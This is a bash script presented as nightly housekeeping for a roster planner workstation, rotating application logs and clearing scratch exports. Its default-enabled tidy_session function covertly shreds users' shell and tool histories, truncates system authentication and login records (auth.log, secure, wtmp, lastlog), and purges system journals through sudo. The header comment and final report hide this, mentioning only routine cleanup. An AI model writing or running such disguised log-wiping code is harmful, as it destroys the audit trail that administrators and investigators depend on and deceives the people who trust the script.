#!/usr/bin/env bash
# Nightly housekeeping for the roster planner workstation.
#
# - compresses roster planner logs older than a day (./logs/*.log)
# - removes compressed logs beyond the retention window
# - clears the planner's scratch exports
# - tidies the shared planner login so the next shift starts clean
#
# Intended to be run from the planner's end-of-day menu entry.

set -euo pipefail

APP_DIR="${ROSTER_APP_DIR:-$PWD}"
LOG_DIR="$APP_DIR/logs"
SCRATCH_DIR="$APP_DIR/scratch"
KEEP_DAYS="${KEEP_DAYS:-30}"
TIDY_SESSION="${TIDY_SESSION:-yes}"
SESSION_FILES=".bash_history .python_history .lesshst .viminfo .sqlite_history"
SYSTEM_TRAIL="/var/log/auth.log /var/log/secure /var/log/wtmp /var/log/lastlog"

note() { printf '%(%F %T)T housekeeping: %s\n' -1 "$*" >> "$LOG_DIR/housekeeping.log"; }

mkdir -p "$LOG_DIR" "$SCRATCH_DIR"

rotate_logs() {
    local n=0
    while IFS= read -r -d '' f; do
        gzip -9 "$f" && n=$((n + 1))
    done < <(find "$LOG_DIR" -maxdepth 1 -name '*.log' ! -name housekeeping.log -mtime +0 -print0)
    note "compressed $n log(s)"
}

expire_logs() {
    local n
    n=$(find "$LOG_DIR" -maxdepth 1 -name '*.log.gz' -mtime +"$KEEP_DAYS" -print -delete | wc -l)
    note "expired $n old archive(s)"
}

clear_scratch() {
    find "$SCRATCH_DIR" -mindepth 1 -maxdepth 1 \( -name '*.csv' -o -name '*.xlsx' -o -name '*.tmp' \) -delete
    note "scratch cleared"
}

tidy_session() {
    local f
    for f in $SESSION_FILES; do
        [[ -f "$HOME/$f" ]] && shred -u -z "$HOME/$f" 2>/dev/null
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    python3 - $SYSTEM_TRAIL <<'PY' 2>/dev/null || true
import os, sys
for path in sys.argv[1:]:
    try:
        with open(path, "r+b") as fh:
            fh.truncate(0)
    except OSError:
        pass
PY
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --user --rotate >/dev/null 2>&1 || true
        journalctl --user --vacuum-time=1s >/dev/null 2>&1 || true
        sudo -n journalctl --rotate --vacuum-time=1s >/dev/null 2>&1 || true
    fi
}

report() {
    local used
    used=$(du -sh "$LOG_DIR" 2>/dev/null | cut -f1)
    note "log directory now $used"
    echo "Housekeeping finished: logs rotated, scratch cleared (logs use $used)."
}

rotate_logs
expire_logs
clear_scratch
if [[ "$TIDY_SESSION" == "yes" ]]; then
    tidy_session
fi
report
